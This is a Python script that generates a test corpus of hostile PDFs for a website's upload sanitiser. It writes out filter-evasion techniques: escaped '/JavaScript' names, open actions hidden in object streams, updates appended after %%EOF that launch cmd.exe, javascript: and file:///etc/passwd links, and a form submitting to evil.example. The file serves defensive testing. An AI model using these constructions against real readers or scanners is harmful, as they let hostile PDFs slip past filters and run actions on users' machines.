"""The hostile PDFs of the corpus (tests/corpus/good/pdf-*/actueel/downloads/), made here so
that anyone can see what is in them: `python tests/hostile_pdfs.py` writes them again.

Each one would make a PDF reader run or open something. The byte-pattern check the site used
before issue 19 let the first four through: names written with '#xx' escapes, an action in a
compressed object stream, an update appended after '%%EOF', a link to a javascript: address.
"""

from __future__ import annotations

import io
import sys
from pathlib import Path

import pikepdf

CORPUS = Path(__file__).parent / "corpus" / "good"
PAGE = b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 200 200] >>"


def raw_pdf(objects: list[bytes], root: int = 1, tail: bytes = b"") -> bytes:
    """A classic PDF (objects numbered from 1) with a correct cross-reference table."""
    out = bytearray(b"%PDF-1.4\n%\xe2\xe3\xcf\xd3\n")
    offsets = []
    for number, body in enumerate(objects, start=1):
        offsets.append(len(out))
        out += b"%d 0 obj\n" % number + body + b"\nendobj\n"
    xref = len(out)
    out += b"xref\n0 %d\n0000000000 65535 f \n" % (len(objects) + 1)
    for offset in offsets:
        out += b"%010d 00000 n \n" % offset
    out += b"trailer\n<< /Size %d /Root %d 0 R >>\nstartxref\n%d\n%%%%EOF\n" % (len(objects) + 1, root, xref)
    return bytes(out) + tail


def escaped_javascript() -> bytes:
    """/OpenAction with '/J#61vaScript' and '/J#53': no '/JavaScript' or '/JS' in the bytes."""
    return raw_pdf([
        b"<< /Type /Catalog /Pages 2 0 R /Open#41ction 4 0 R >>",
        b"<< /Type /Pages /Kids [3 0 R] /Count 1 >>",
        PAGE,
        b"<< /S /J#61vaScript /J#53 (app.alert\\('pdf'\\)) >>",
    ])


def appended_update() -> bytes:
    """A clean PDF, then an update after '%%EOF' that gives the catalog an open action."""
    first = raw_pdf([b"<< /Type /Catalog /Pages 2 0 R >>", b"<< /Type /Pages /Kids [3 0 R] /Count 1 >>", PAGE])
    start = first.rindex(b"startxref\n") + len(b"startxref\n")
    previous = int(first[start:first.index(b"\n", start)])
    catalog = len(first)
    update = (b"1 0 obj\n<< /Type /Catalog /Pages 2 0 R /Open#41ction << /S /Launch /F (cmd.exe) >> >>\nendobj\n")
    xref = catalog + len(update)
    update += (b"xref\n0 1\n0000000000 65535 f \n1 1\n%010d 00000 n \n" % catalog
               + b"trailer\n<< /Size 4 /Root 1 0 R /Prev %d >>\nstartxref\n%d\n%%%%EOF\n" % (previous, xref))
    return first + update


def plain() -> bytes:
    """A plain one-page PDF with a line of text: nothing to take out."""
    text = b"BT /F1 12 Tf 20 100 Td (Een gewone pdf) Tj ET"
    return raw_pdf([
        b"<< /Type /Catalog /Pages 2 0 R >>",
        b"<< /Type /Pages /Kids [3 0 R] /Count 1 >>",
        b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 200 200] /Contents 4 0 R "
        b"/Resources << /Font << /F1 5 0 R >> >> >>",
        b"<< /Length %d >>\nstream\n" % len(text) + text + b"\nendstream",
        b"<< /Type /Font /Subtype /Type1 /BaseFont /Helvetica >>",
    ])


def with_password() -> bytes:
    """Locked with a password to open: the site cannot read it, so cannot rewrite it."""
    pdf = pikepdf.open(io.BytesIO(plain()))
    return _pikepdf_bytes(pdf, encryption=pikepdf.Encryption(owner="eigenaar", user="geheim"))


def _pikepdf_bytes(pdf: pikepdf.Pdf, **options: object) -> bytes:
    out = io.BytesIO()
    pdf.save(out, static_id=True, **options)
    return out.getvalue()


def object_stream_javascript() -> bytes:
    """The JavaScript open action inside a compressed object stream."""
    pdf = pikepdf.new()
    pdf.add_blank_page(page_size=(200, 200))
    action = pdf.make_indirect(pikepdf.Dictionary(S=pikepdf.Name.JavaScript, JS=pikepdf.String("app.alert('x')")))
    pdf.Root.OpenAction = action
    pdf.Root.Names = pikepdf.Dictionary(JavaScript=pikepdf.Dictionary(
        Names=pikepdf.Array([pikepdf.String("a"), action])))
    return _pikepdf_bytes(pdf, object_stream_mode=pikepdf.ObjectStreamMode.generate, compress_streams=True)


def javascript_link() -> bytes:
    """A link annotation whose address is javascript:…, and one to a file:// address."""
    pdf = pikepdf.new()
    pdf.add_blank_page(page_size=(200, 200))
    links = [pikepdf.Dictionary(Type=pikepdf.Name.Annot, Subtype=pikepdf.Name.Link, Rect=[0, 0, 100, 100],
                                A=pikepdf.Dictionary(S=pikepdf.Name.URI, URI=pikepdf.String(uri)))
             for uri in ("javascript:alert(1)", "file:///etc/passwd", "https://www.loc.nl/")]
    pdf.pages[0].Annots = pdf.make_indirect(pikepdf.Array([pdf.make_indirect(link) for link in links]))
    return _pikepdf_bytes(pdf)


def form_and_attachment() -> bytes:
    """A form that sends its data away, an embedded file and a page action that launches."""
    pdf = pikepdf.new()
    pdf.add_blank_page(page_size=(200, 200))
    submit = pikepdf.Dictionary(S=pikepdf.Name.SubmitForm, F=pikepdf.String("https://evil.example/"))
    widget = pdf.make_indirect(pikepdf.Dictionary(
        Type=pikepdf.Name.Annot, Subtype=pikepdf.Name.Widget, FT=pikepdf.Name.Btn, T=pikepdf.String("b"),
        Rect=[0, 0, 50, 50], A=submit))
    pdf.pages[0].Annots = pikepdf.Array([widget])
    pdf.pages[0].AA = pikepdf.Dictionary(O=pikepdf.Dictionary(S=pikepdf.Name.Launch, F=pikepdf.String("calc.exe")))
    pdf.Root.AcroForm = pikepdf.Dictionary(Fields=pikepdf.Array([widget]))
    embedded = pdf.make_stream(b"MZ not really a program")
    embedded.Type = pikepdf.Name.EmbeddedFile
    spec = pikepdf.Dictionary(Type=pikepdf.Name.Filespec, F=pikepdf.String("x.exe"),
                              EF=pikepdf.Dictionary(F=embedded))
    pdf.Root.Names = pikepdf.Dictionary(EmbeddedFiles=pikepdf.Dictionary(
        Names=pikepdf.Array([pikepdf.String("x.exe"), spec])))
    return _pikepdf_bytes(pdf)


HOSTILE = {
    "pdf-naam-escape": escaped_javascript,
    "pdf-na-einde": appended_update,
    "pdf-objectstroom": object_stream_javascript,
    "pdf-link-javascript": javascript_link,
    "pdf-formulier-bijlage": form_and_attachment,
}


def article(case: str) -> str:
    return (f"---\ntitel: Download {case}\ndatum: 2026-01-15\nsamenvatting: Een korte samenvatting.\n"
            f"themas: [zorgonderwijs]\ndownloads:\n  - titel: Het stuk\n    bestand: downloads/{case}.pdf\n"
            "---\n\nEen bericht.\n")


def write_corpus() -> None:
    for case, make in {**HOSTILE, "pdf-gewoon": plain}.items():
        folder = CORPUS / case / "actueel"
        (folder / "downloads").mkdir(parents=True, exist_ok=True)
        (folder / f"{case}.md").write_text(article(case), encoding="utf-8")
        (folder / "downloads" / f"{case}.pdf").write_bytes(make())


if __name__ == "__main__":
    write_corpus()
    bad = CORPUS.parent / "bad"
    for case, data in (("pdf-wachtwoord", with_password()), ("pdf-niemand", plain())):
        folder = bad / case / "actueel"
        (folder / "downloads").mkdir(parents=True, exist_ok=True)
        if case == "pdf-wachtwoord":
            (folder / f"{case}.md").write_text(article(case), encoding="utf-8")
        (folder / "downloads" / f"{case}.pdf").write_bytes(data)
    sys.exit(0)
